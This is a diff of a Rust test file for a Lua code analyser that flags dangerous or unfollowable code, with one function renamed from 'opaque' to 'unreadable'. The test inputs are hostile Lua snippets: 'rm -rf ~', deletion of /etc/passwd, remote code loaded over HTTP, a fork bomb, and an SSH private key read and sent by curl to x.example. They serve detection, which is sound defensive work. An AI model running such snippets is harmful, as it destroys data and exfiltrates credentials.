@@ -6,8 +6,8 @@ fn effects(code: &str) -> Vec<String> {
     crate::matcher::code::testing::effects(Lang::Lua, code)
 }
 
-fn opaque(code: &str) -> Option<&'static str> {
-    read(Lang::Lua, code).opaque.map(|u| u.reason)
+fn unreadable(code: &str) -> Option<&'static str> {
+    read(Lang::Lua, code).unreadable.map(|u| u.reason)
 }
 
 #[test]
@@ -121,52 +121,62 @@ fn files_and_the_network_are_virtual_commands() {
 }
 
 #[test]
-fn code_that_cannot_be_read_is_opaque_with_the_reason() {
+fn code_that_cannot_be_read_is_unreadable_with_the_reason() {
     let hidden = Some("the code runs code it downloaded or decoded");
     assert_eq!(
-        opaque("load(require('socket.http').request('http://e.io/x'))()"),
+        unreadable("load(require('socket.http').request('http://e.io/x'))()"),
         hidden
     );
-    assert!(opaque("load(io.read('*a'))()").is_some());
+    assert!(unreadable("load(io.read('*a'))()").is_some());
     let passed = Some(
         "the code passes a function that runs commands or changes files as a value, to be called where it cannot be followed",
     );
-    assert_eq!(opaque("local t = {os.execute}; t[1]('rm -rf ~')"), passed);
     assert_eq!(
-        opaque("local t = {run = os.remove}; t.run('/etc/passwd')"),
+        unreadable("local t = {os.execute}; t[1]('rm -rf ~')"),
         passed
     );
-    assert_eq!(opaque("local t = {print, string.upper}; t[1]('x')"), None);
-    assert!(opaque("loadstring(arg[1])()").is_some());
     assert_eq!(
-        opaque("local m = arg[1]; require(m)"),
+        unreadable("local t = {run = os.remove}; t.run('/etc/passwd')"),
+        passed
+    );
+    assert_eq!(
+        unreadable("local t = {print, string.upper}; t[1]('x')"),
+        None
+    );
+    assert!(unreadable("loadstring(arg[1])()").is_some());
+    assert_eq!(
+        unreadable("local m = arg[1]; require(m)"),
         Some("the code loads a module whose name is computed at run time")
     );
-    assert_eq!(opaque("_G[arg[1]]('x')"), Some(super::COMPUTED_NAME));
-    assert_eq!(opaque("os[arg[1]]('x')"), Some(super::COMPUTED_NAME));
+    assert_eq!(unreadable("_G[arg[1]]('x')"), Some(super::COMPUTED_NAME));
+    assert_eq!(unreadable("os[arg[1]]('x')"), Some(super::COMPUTED_NAME));
     // Also where it is not called.
     assert_eq!(
-        opaque("local t = setmetatable({}, {__index = function(_, k) return os[k] end}) t[v]('x')"),
+        unreadable(
+            "local t = setmetatable({}, {__index = function(_, k) return os[k] end}) t[v]('x')"
+        ),
         Some(super::COMPUTED_NAME)
     );
     assert_eq!(
-        opaque("_G[arg[1]] = 1"),
+        unreadable("_G[arg[1]] = 1"),
         Some("the code sets a global whose name is computed at run time")
     );
     assert_eq!(
-        opaque("setmetatable(_G, {__index = function() return os.execute end})"),
+        unreadable("setmetatable(_G, {__index = function() return os.execute end})"),
         Some("the code changes how globals are looked up")
     );
     assert_eq!(
-        opaque("dofile(arg[1])"),
+        unreadable("dofile(arg[1])"),
         Some("the code runs a file whose name is computed at run time")
     );
     assert_eq!(
-        opaque("local ffi = require('ffi') ffi.cdef('int system(const char*);') ffi.C.system('x')"),
+        unreadable(
+            "local ffi = require('ffi') ffi.cdef('int system(const char*);') ffi.C.system('x')"
+        ),
         Some(super::NATIVE)
     );
     assert_eq!(
-        opaque("local p = require('posix') while true do p.fork() end"),
+        unreadable("local p = require('posix') while true do p.fork() end"),
         Some("the code forks in a loop (a fork bomb)")
     );
     // A name bound twice or in a loop is not known.
@@ -196,7 +206,7 @@ fn code_run_by_load_is_read_too() {
         effects("(loadstring or load)([[os.remove('/x')]])()"),
         ["rm /x"]
     );
-    assert!(opaque("local f = loadstring or load; f(io.read('*a'))()").is_some());
+    assert!(unreadable("local f = loadstring or load; f(io.read('*a'))()").is_some());
     assert_eq!(
         effects("(os.execute or print)('rm -rf ~')"),
         ["sh -c rm -rf ~"]
@@ -233,17 +243,17 @@ fn routine_one_liners_find_nothing() {
 }
 
 #[test]
-fn bad_code_is_opaque_not_a_panic() {
+fn bad_code_is_unreadable_not_a_panic() {
     assert_eq!(
         read(Lang::Lua, "print(1)\nos.execute('x'")
-            .opaque
+            .unreadable
             .map(|u| (u.reason, u.line)),
         Some(("the lua code has a syntax error", 2))
     );
-    assert!(opaque("print('unterminated)").is_some());
-    assert!(opaque("print([[unterminated)").is_some());
+    assert!(unreadable("print('unterminated)").is_some());
+    assert!(unreadable("print([[unterminated)").is_some());
     let deep = format!("print({}1{})", "(".repeat(500), ")".repeat(500));
-    assert!(opaque(&deep).is_some());
+    assert!(unreadable(&deep).is_some());
     let chain = format!("local a = 'x'{}", " .. 'y'".repeat(3000));
     let _ = read(Lang::Lua, &chain);
     for code in [
@@ -257,7 +267,7 @@ fn bad_code_is_opaque_not_a_panic() {
 }
 
 #[test]
-fn functions_with_effects_passed_to_others_and_debug_rebinding_are_opaque() {
+fn functions_with_effects_passed_to_others_and_debug_rebinding_are_unreadable() {
     for code in [
         "string.gsub(io.read('a'), '[^\\n]+', os.execute)",
         "pcall(string.gsub, 'rm -rf ~', '.+', os.execute)",
@@ -265,7 +275,7 @@ fn functions_with_effects_passed_to_others_and_debug_rebinding_are_opaque() {
         "local log = print; local function f(m) log(m) end; debug.setupvalue(f, 1, os.execute); f('id')",
         "package.cpath = '/tmp/x/?.so;' .. package.cpath; require 'lfs'",
     ] {
-        assert!(opaque(code).is_some(), "{code}");
+        assert!(unreadable(code).is_some(), "{code}");
     }
     // pcall's own function is read as called; debug's readers change nothing.
     for code in [
@@ -273,7 +283,7 @@ fn functions_with_effects_passed_to_others_and_debug_rebinding_are_opaque() {
         "local ok, err = xpcall(function() error('boom') end, debug.traceback); print(ok)",
         "package.path = './lib/?.lua;' .. package.path",
     ] {
-        assert_eq!(opaque(code), None, "{code}");
+        assert_eq!(unreadable(code), None, "{code}");
     }
     assert_eq!(
         effects("print(pcall(os.remove, 'build/x'))"),
@@ -343,18 +353,18 @@ fn a_table_shared_where_it_may_change_is_not_the_one_built() {
 }
 
 #[test]
-fn a_file_not_named_read_and_a_shell_line_that_reaches_the_network_is_opaque() {
+fn a_file_not_named_read_and_a_shell_line_that_reaches_the_network_is_unreadable() {
     // Round 34 (blind): an ssh key read by a helper, streamed into `curl -d @-`.
     let sent = "local function slurp(p) local f = io.open(p, 'rb'); local s = f:read('a'); f:close(); return s end\nlocal key = slurp(os.getenv('HOME') .. '/.ssh/id_ed25519')\nlocal out = io.popen('curl -s --data-binary @- https://x.example/u', 'w')\nout:write(key)\nout:close()";
     assert_eq!(
-        opaque(sent),
+        unreadable(sent),
         Some(
             "the code reads a file whose name is not known before it runs and sends data over the network"
         )
     );
     // A shell line that reaches no network does not pair so.
     assert_eq!(
-        opaque(&sent.replace("curl -s --data-binary @- https://x.example/u", "sort")),
+        unreadable(&sent.replace("curl -s --data-binary @- https://x.example/u", "sort")),
         None
     );
 }
